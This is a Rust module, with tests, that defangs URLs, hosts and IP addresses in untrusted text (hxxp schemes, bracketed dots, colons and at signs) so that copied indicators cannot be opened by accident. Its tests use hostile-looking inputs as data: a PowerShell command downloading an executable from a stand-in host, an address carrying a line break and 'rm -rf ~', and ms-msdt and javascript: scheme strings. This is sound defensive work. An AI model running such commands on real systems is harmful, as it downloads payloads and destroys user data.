//! Addresses made safe to pass on: no program links to them, no reader opens them by accident.

use super::address::{is_address, is_border};
use super::visible::Visible;

/// Schemes that programs turn into links, and what analysts write instead.
const SCHEMES: [(&str, &str); 3] = [("https", "hxxps"), ("http", "hxxp"), ("ftp", "fxp")];

/// What joins an address together; browsers take the ideographic full stops as dots too.
const JOINTS: [char; 6] = ['.', ':', '@', '\u{3002}', '\u{ff0e}', '\u{ff61}'];

impl Visible {
    /// The text of a URL, host or address with its teeth out, for copying.
    ///
    /// A leading `http`, `https` or `ftp` becomes `hxxp`, `hxxps` or `fxp`, and every dot, colon
    /// and at sign is put in brackets:
    /// `http://a.example:80` becomes `hxxp[:]//a[.]example[:]80`.
    /// Brackets are not added twice, so doing it again changes nothing. Like every visible
    /// form the result is one line without controls: pasted into a shell, it waits for Enter.
    pub fn defanged(&self) -> Visible {
        let (scheme, rest) = split_scheme(self.as_str());
        let mut text = scheme.to_owned();
        let mut brackets = 0;
        let mut previous = None;
        let mut rest = rest.chars().peekable();
        while let Some(character) = rest.next() {
            let is_safe = previous == Some('[') && rest.peek() == Some(&']');
            if JOINTS.contains(&character) && !is_safe {
                text.extend(['[', character, ']']);
                brackets += 2;
            } else {
                text.push(character);
            }
            previous = Some(character);
        }
        // A scheme and its stand-in are equally wide.
        Visible::from_parts(text, self.width() + brackets)
    }

    /// The text with every address in it defanged, for copying what may be anything: a path, a command, a host.
    ///
    /// The text is read word by word, blanks, quotes and brackets between them; `address` says which words are addresses.
    pub fn disarmed(&self) -> Visible {
        self.disarmed_where(false)
    }

    /// The same for what stands where hosts do: there a name with a dot is a host, though files may be called so too.
    pub fn disarmed_among_hosts(&self) -> Visible {
        self.disarmed_where(true)
    }

    fn disarmed_where(&self, is_among_hosts: bool) -> Visible {
        // Brackets are all that is added, a column each.
        let (mut disarmed, mut added) = (String::with_capacity(self.as_str().len()), 0);
        let mut rest = self.as_str();
        while !rest.is_empty() {
            let (word, after) = rest.split_at(rest.find(is_border).unwrap_or(rest.len()));
            if is_address(word, is_among_hosts) {
                let safe = Visible::from_parts(word.to_owned(), 0).defanged();
                added += safe.width();
                disarmed.push_str(safe.as_str());
            } else {
                disarmed.push_str(word);
            }
            let end = after.find(|c: char| !is_border(c)).unwrap_or(after.len());
            let (border, next) = after.split_at(end);
            disarmed.push_str(border);
            rest = next;
        }
        Visible::from_parts(disarmed, self.width() + added)
    }
}

/// The harmless form of a leading scheme, and what follows the scheme.
fn split_scheme(text: &str) -> (&'static str, &str) {
    let found = SCHEMES.iter().find_map(|(scheme, harmless)| {
        let (start, rest) = text.split_at_checked(scheme.len())?;
        let is_scheme = rest.starts_with("://") || rest.starts_with("[:]//");
        (start.eq_ignore_ascii_case(scheme) && is_scheme).then_some((*harmless, rest))
    });
    found.unwrap_or(("", text))
}

#[cfg(test)]
mod tests {
    use crate::text::Untrusted;

    fn defanged(text: &str) -> String {
        Untrusted::from(text).visible().defanged().into()
    }

    #[test]
    fn addresses_inside_of_other_text_lose_their_teeth_and_paths_stay() {
        for (text, harmless) in [
            (r"C:\Users\a\stage.js", r"C:\Users\a\stage.js"),
            ("svchost.exe", "svchost.exe"),
            (
                "powershell -c iwr http://a.example/x.exe -o x.exe",
                "powershell -c iwr hxxp[:]//a[.]example/x[.]exe -o x.exe",
            ),
            ("ping a.example:80 (192.0.2.1)", "ping a[.]example[:]80 (192[.]0[.]2[.]1)"),
            ("me@mail.example", "me[@]mail[.]example"),
            ("a.example → 192.0.2.7", "a[.]example → 192[.]0[.]2[.]7"),
            ("WMI:Win32_Process", "WMI:Win32_Process"),
            ("evil.xn--p1ai EVIL.XN--P1AI.", "evil[.]xn--p1ai EVIL[.]XN--P1AI[.]"),
            ("//evil.example/x", "//evil[.]example/x"),
            ("[2001:db8::1]:80", "[2001[:]db8[:][:]1][:]80"),
            ("mailto:a@b.example =c@d.example", "mailto[:]a[@]b[.]example =c[@]d[.]example"),
            ("=a.example #b.example c.example!", "=a[.]example #b[.]example c[.]example!"),
            (
                "a.example\u{7} b\u{202e}.c.example 192.0.2.1\u{1}",
                r"a[.]example\x07 b\u{202e}[.]c[.]example 192[.]0[.]2[.]1\x01",
            ),
            (r"http:a.example HTTP:\\b.example", r"http[:]a[.]example HTTP[:]\\b[.]example"),
            (
                r"\\192.0.2.1\share\x \\b.example@SSL\x \\host\share.x",
                r"\\192[.]0[.]2[.]1\share\x \\b[.]example[@]SSL\x \\host\share.x",
            ),
            ("ms-msdt:/id javascript:alert tel:1 data:", "ms-msdt[:]/id javascript[:]alert tel[:]1 data:"),
            (r"C:\x64\a.b.c.net %TEMP%\a.js", r"C:\x64\a.b.c.net %TEMP%\a.js"),
            (r#"[Enum]::"Any" .NET. nEt.WebClient"#, r#"[Enum]::"Any" .NET. nEt.WebClient"#),
            ("kernel32.dll setup.exe a.zip /usr/lib/a.so 1.2.3", "kernel32.dll setup.exe a[.]zip /usr/lib/a.so 1.2.3"),
            ("[a.example](b.example) _c.example_ www.d", "[a[.]example](b[.]example) _c[.]example_ www[.]d"),
            ("192.0.2.1-192.0.2.9 tcp:2001:db8::1", "192[.]0[.]2[.]1-192[.]0[.]2[.]9 tcp[:]2001[:]db8[:][:]1"),
        ] {
            let found = Untrusted::from(text).visible().disarmed();
            assert_eq!(found.as_str(), harmless);
            assert_eq!(found.width(), found.as_str().chars().count());
        }
    }

    #[test]
    fn where_hosts_stand_a_name_is_a_host_whatever_it_ends_in() {
        for (text, harmless) in [
            ("payload.zip", "payload[.]zip"),
            ("evil.so → 192.0.2.7", "evil[.]so → 192[.]0[.]2[.]7"),
            ("GET //evil.doc/x", "GET //evil[.]doc/x"),
            (r"1.2 C:\a.zip /x/a.so tcp", r"1.2 C:\a.zip /x/a.so tcp"),
        ] {
            assert_eq!(Untrusted::from(text).visible().disarmed_among_hosts().as_str(), harmless);
        }
    }

    #[test]
    fn addresses_lose_their_teeth() {
        for (address, harmless) in [
            ("http://a.example/x.exe", "hxxp[:]//a[.]example/x[.]exe"),
            ("HTTPS://A.example:8443", "hxxps[:]//A[.]example[:]8443"),
            ("ftp://u@h", "fxp[:]//u[@]h"),
            ("http[:]//half.done", "hxxp[:]//half[.]done"),
            ("http.example", "http[.]example"),
            ("192.0.2.1", "192[.]0[.]2[.]1"),
            ("2001:db8::1", "2001[:]db8[:][:]1"),
            ("me@mail.example", "me[@]mail[.]example"),
            ("evil\u{3002}example", "evil[\u{3002}]example"),
            ("a.b\r\nrm -rf ~", r"a[.]b\x0d\x0arm -rf ~"),
            ("", ""),
        ] {
            assert_eq!(defanged(address), harmless);
        }
    }
}
